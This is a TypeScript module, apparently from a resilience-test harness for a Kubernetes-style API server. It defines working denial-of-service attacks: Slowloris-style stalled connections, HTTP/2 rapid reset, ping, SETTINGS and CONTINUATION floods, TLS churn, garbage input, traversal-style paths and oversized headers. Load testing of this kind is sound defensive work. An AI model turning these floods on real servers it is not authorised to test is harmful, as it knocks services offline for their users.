import { connect as connectTcp } from "node:net";
import { connect as connectTls } from "node:tls";
import { connect as connectHttp2 } from "node:http2";
import { upTo, type Attack, type Target } from "../target.ts";

const at = (t: Target) => ({ host: t.place.host, port: t.place.port });
const tls = (t: Target, ALPNProtocols: string[] = ["http/1.1"]) =>
  t.hold(connectTls({ ...at(t), ca: t.place.authority, ALPNProtocols }));

/** A session of HTTP/2 by an anonymous client, ended with the attack. */
function session(t: Target) {
  t.connections += 1;
  const made = connectHttp2(`https://${t.place.host}:${t.place.port}`, { ca: t.place.authority });
  made.on("error", () => {});
  t.signal.addEventListener("abort", () => made.destroy(), { once: true });
  return made;
}

/** Raw bytes over TLS with HTTP/2 agreed: the preface, then whatever frames. */
async function frames(t: Target, sockets: number, frame: Buffer): Promise<void> {
  const preface = Buffer.concat([
    Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
    Buffer.from([0, 0, 0, 4, 0, 0, 0, 0, 0]),
  ]);
  for (const _ of upTo(sockets)) {
    const socket = tls(t, ["h2"]);
    socket.on("data", () => {});
    socket.on("secureConnect", () => {
      socket.write(preface);
      const more = (): void => {
        if (t.signal.aborted || socket.destroyed) return;
        if (socket.write(frame)) setImmediate(more);
        else socket.once("drain", more);
      };
      more();
    });
  }
  await t.rest();
}

const frame = (type: number, flags: number, stream: number, payload: Buffer): Buffer => {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
};

export const connections: readonly Attack[] = [
  {
    title: "400 connections say nothing",
    run: async (t) => {
      for (const _ of upTo(400)) t.hold(connectTcp(at(t)));
      await t.rest();
    },
  },
  {
    title: "300 clients stop in the middle of the TLS handshake",
    run: async (t) => {
      for (const _ of upTo(300)) {
        const socket = t.hold(connectTcp(at(t)));
        socket.write(Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00, 0x01]));
      }
      await t.rest();
    },
  },
  {
    title: "300 clients stop in the middle of their headers",
    run: async (t) => {
      for (const _ of upTo(300)) {
        const socket = tls(t);
        socket.on("secureConnect", () => socket.write("GET /version HTTP/1.1\r\nhost: x\r\nx-slow: "));
      }
      await t.rest();
    },
  },
  {
    title: "200 clients send their bodies a byte at a time",
    run: async (t) => {
      for (const _ of upTo(200)) {
        const socket = tls(t);
        socket.on("secureConnect", () => {
          const token = `authorization: Bearer ${t.place.tokens.powerless}\r\n`;
          socket.write(
            `POST /apis/authentication.k8s.io/v1/selfsubjectreviews HTTP/1.1\r\nhost: x\r\n${token}content-length: 100000\r\n\r\n{`,
          );
        });
      }
      await t.rest();
    },
  },
  {
    title: "200 sessions of HTTP/2 remain idle",
    run: async (t) => {
      for (const _ of upTo(200)) session(t);
      await t.rest();
    },
  },
  {
    title: "streams of HTTP/2 are opened and reset as fast as they go",
    run: async (t) => {
      const made = session(t);
      const burst = (): void => {
        if (t.signal.aborted || made.destroyed) return;
        for (const _ of upTo(100)) {
          const stream = made.request({ ":path": "/version" });
          stream.on("error", () => {});
          stream.close(8);
        }
        setImmediate(burst);
      };
      made.on("connect", burst);
      await t.rest();
    },
  },
  {
    title: "pings of HTTP/2 come as fast as they go",
    run: (t) => frames(t, 2, Buffer.concat(upTo(500).map(() => frame(6, 0, 0, Buffer.alloc(8))))),
  },
  {
    title: "settings of HTTP/2 come as fast as they go",
    run: (t) => frames(t, 2, Buffer.concat(upTo(500).map(() => frame(4, 0, 0, Buffer.alloc(0))))),
  },
  {
    title: "headers of HTTP/2 never end",
    run: (t) => {
      const first = frame(1, 0, 1, Buffer.from([0x82, 0x84, 0x87]));
      const more = upTo(20).map(() =>
        frame(9, 0, 1, Buffer.alloc(16_000, Buffer.from([0x40, 0x01, 0x61, 0x01, 0x62]))),
      );
      return frames(t, 2, Buffer.concat([first, ...more]));
    },
  },
  {
    title: "new TLS connections are opened and closed as fast as they go",
    run: async (t) => {
      const lane = async (): Promise<void> => {
        while (!t.signal.aborted) {
          await new Promise<void>((done) => {
            const socket = tls(t);
            socket.on("secureConnect", () => socket.destroy());
            socket.on("close", () => done());
          });
        }
      };
      await Promise.all(upTo(8).map(lane));
    },
  },
  {
    title: "plain HTTP and garbage come to the TLS port",
    run: async (t) => {
      const lane = async (n: number): Promise<void> => {
        while (!t.signal.aborted) {
          await new Promise<void>((done) => {
            const socket = t.hold(connectTcp(at(t)));
            socket.on("connect", () =>
              socket.end(n % 2 ? "GET / HTTP/1.1\r\nhost: x\r\n\r\n" : Buffer.alloc(5_000, 0xff)),
            );
            socket.on("data", () => {});
            socket.on("close", () => done());
          });
        }
      };
      await Promise.all(upTo(20).map(lane));
    },
  },
  {
    title: "anonymous clients ask for paths that are no paths",
    run: (t) => {
      const paths = [
        "//",
        "///",
        "/clusters/x/../..",
        "/%2e%2e/%2e%2e",
        "/\\..\\",
        "/%zz",
        "/api/v1/namespaces/%00",
        `/${"a/".repeat(4_000)}`,
      ];
      return t.repeat(3_000, 30, (n) => ({ path: paths[n % paths.length] ?? "/", as: "anonymous" }));
    },
  },
  {
    title: "headers fill their limit",
    run: (t) =>
      t.repeat(600, 30, (n) => ({
        path: "/version",
        as: "anonymous",
        headers: { "x-fill": "y".repeat(n % 2 ? 12_000 : 60_000) },
      })),
  },
  {
    title: "200 watches by WebSocket are opened by clients that send garbage frames",
    run: async (t) => {
      for (const _ of upTo(200)) {
        const socket = tls(t);
        socket.on("data", () => socket.write(Buffer.from([0xff, 0xff, 0xff, 0xff, 0xff, 0xff])));
        socket.on("secureConnect", () => {
          const lines = [
            "GET /api/v1/namespaces/default/configmaps?watch=true HTTP/1.1",
            "host: x",
            `authorization: Bearer ${t.place.tokens.patcher}`,
            "connection: Upgrade",
            "upgrade: websocket",
            "sec-websocket-version: 13",
            "sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==",
          ];
          socket.write(`${lines.join("\r\n")}\r\n\r\n`);
        });
      }
      await t.rest();
    },
  },
];
